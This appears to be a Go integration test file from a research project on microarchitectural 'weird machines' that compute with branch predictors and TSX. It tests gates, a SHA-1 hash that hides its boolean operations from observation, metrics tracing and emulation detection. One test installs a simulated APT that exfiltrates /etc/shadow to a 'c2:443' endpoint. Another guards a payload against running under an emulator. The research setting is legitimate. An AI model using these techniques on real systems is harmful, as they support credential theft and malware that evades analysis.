// Integration tests exercising the full stack across package
// boundaries: one weird machine hosting gates, circuits, skelly, the
// SHA-1 application and the APT, observed end to end by the analyzer.
package uwm_test

import (
	"bytes"
	"crypto/sha1"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"uwm/internal/analyzer"
	"uwm/internal/bexpr"
	"uwm/internal/core"
	"uwm/internal/cpu"
	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/obs"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/wmapt"
)

// TestFullStackOneMachine builds skelly, a compiled circuit and an
// expression on a single machine and cross-checks them: three different
// routes to XOR must agree.
func TestFullStackOneMachine(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 99, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	tsxXor, err := core.NewTSXXor(m)
	if err != nil {
		t.Fatal(err)
	}
	circ, vars, err := bexpr.Compile(m, "a ^ b")
	if err != nil {
		t.Fatal(err)
	}
	if len(vars) != 2 {
		t.Fatalf("vars = %v", vars)
	}
	for a := 0; a < 2; a++ {
		for b := 0; b < 2; b++ {
			want := a ^ b
			v1, err := sk.Xor(a, b) // BP-gate composition
			if err != nil {
				t.Fatal(err)
			}
			v2, err := tsxXor.Run(a, b) // hand-built TSX circuit
			if err != nil {
				t.Fatal(err)
			}
			v3, err := circ.Run(a, b) // compiled netlist
			if err != nil {
				t.Fatal(err)
			}
			if v1 != want || v2[0] != want || v3[0] != want {
				t.Errorf("XOR(%d,%d): skelly=%d tsx=%d circuit=%d want %d",
					a, b, v1, v2[0], v3[0], want)
			}
		}
	}
}

// TestObservedPipeline runs a small hash under the analyzer and checks
// the architectural evidence never contains a committed boolean
// instruction while the digest still verifies.
func TestObservedPipeline(t *testing.T) {
	if testing.Short() {
		t.Skip("hashes >100k gates")
	}
	m, err := core.NewMachine(core.Options{Seed: 17, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	obs := analyzer.Attach(m, 500_000)
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	h := sha1wm.New(sk)
	digest, err := h.Sum([]byte("observed"))
	if err != nil {
		t.Fatal(err)
	}
	if digest != sha1.Sum([]byte("observed")) {
		t.Fatal("digest mismatch under observation")
	}
	for _, op := range []string{"and", "or", "xor"} {
		if obs.ExecutedOpcode(op) {
			t.Errorf("architectural %s committed during the weird hash", op)
		}
	}
	if obs.MicroEventCount() == 0 && obs.Events() == nil {
		t.Error("analyzer recorded nothing")
	}
}

// TestAPTOnSharedMachine installs the APT on an externally built
// machine (sharing it with other gates) and drives it to completion.
func TestAPTOnSharedMachine(t *testing.T) {
	m, err := core.NewMachine(wmapt.MachineOptions(777))
	if err != nil {
		t.Fatal(err)
	}
	// Another tenant of the machine.
	bystander, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Machine: m, EvalMultiple: 5})
	if err != nil {
		t.Fatal(err)
	}
	pad, err := apt.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "c2:443"})
	if err != nil {
		t.Fatal(err)
	}
	fired := false
	for i := 0; i < 300 && !fired; i++ {
		res, err := apt.HandlePing(pad)
		if err != nil {
			t.Fatal(err)
		}
		fired = res != nil
		// The bystander gate keeps computing correctly in between.
		if i%20 == 0 {
			out, err := bystander.Run(1, 1)
			if err != nil {
				t.Fatal(err)
			}
			if out[0] != 1 {
				t.Error("bystander gate corrupted by APT activity")
			}
		}
	}
	if !fired {
		t.Fatal("trigger never decoded")
	}
	if !strings.Contains(string(env.Exfiltrated["c2:443"]), "root:") {
		t.Error("exfiltration payload incomplete")
	}
}

// TestObservabilityAcceptance encodes the PR's acceptance criterion:
// the `uwm-gates -op and -metrics -trace-out and.json` flow must yield
// (a) a Prometheus exposition with non-zero cache, branch, cpu and
// gate series and (b) a Chrome trace_event JSON containing commit,
// spec-window and cache-fill events.
func TestObservabilityAcceptance(t *testing.T) {
	path := filepath.Join(t.TempDir(), "and.json")
	sess, err := obs.Start(obs.Config{Metrics: true, TraceOut: path})
	if err != nil {
		t.Fatal(err)
	}
	var exposition bytes.Buffer
	sess.SetOutput(&exposition)

	m, err := core.NewMachine(core.Options{
		Seed:            1,
		TrainIterations: 4,
		Metrics:         sess.Registry,
		Sink:            sess.Sink,
	})
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	for c := 0; c < 4; c++ {
		if _, err := g.Run(c&1, c>>1); err != nil {
			t.Fatal(err)
		}
	}
	if err := sess.Close(); err != nil {
		t.Fatal(err)
	}

	// (a) non-zero metrics across every instrumented layer.
	for _, name := range []string{
		cpu.MetricCommitted,
		cpu.MetricMispredicts,
		"uwm_branch_predictions_total",
		core.MetricThreshold,
	} {
		if v, ok := sess.Registry.Value(name); !ok || v <= 0 {
			t.Errorf("metric %s = %v (ok=%v), want > 0", name, v, ok)
		}
	}
	if v, ok := sess.Registry.Value("uwm_cache_misses_total", metrics.L("level", "L1D")); !ok || v <= 0 {
		t.Errorf("L1D misses = %v (ok=%v), want > 0", v, ok)
	}
	if v, ok := sess.Registry.Value(core.MetricGateFires,
		metrics.L("gate", "AND"), metrics.L("family", "bp")); !ok || v != 4 {
		t.Errorf("gate fires = %v (ok=%v), want 4", v, ok)
	}
	if !strings.Contains(exposition.String(), "# TYPE uwm_cpu_committed_total counter") {
		t.Error("exposition missing TYPE header for committed counter")
	}

	// (b) a loadable Chrome trace with the three event families.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []struct {
			Name  string `json:"name"`
			Phase string `json:"ph"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("trace file is not valid Chrome trace JSON: %v", err)
	}
	seen := map[string]bool{}
	for _, e := range doc.TraceEvents {
		seen[e.Name] = true
		if e.Name == "spec-window" && e.Phase != "X" {
			t.Errorf("spec-window emitted as %q, want complete event X", e.Phase)
		}
	}
	for _, want := range []string{"commit", "spec-window", "cache-fill"} {
		if !seen[want] {
			t.Errorf("trace missing %q events (saw %v)", want, seen)
		}
	}
}

// TestEmulationGateKeepsPayloadSafe combines §2.1 with §5.1: a payload
// guarded by the emulation probe never runs on the "emulator".
func TestEmulationGateKeepsPayloadSafe(t *testing.T) {
	real := core.MustNewMachine(core.Options{Seed: 41, Noise: noise.Paper()})
	v, err := core.DetectEmulation(real, 24)
	if err != nil {
		t.Fatal(err)
	}
	if !v.RealHardware {
		t.Fatal("real machine flagged as emulator")
	}
}
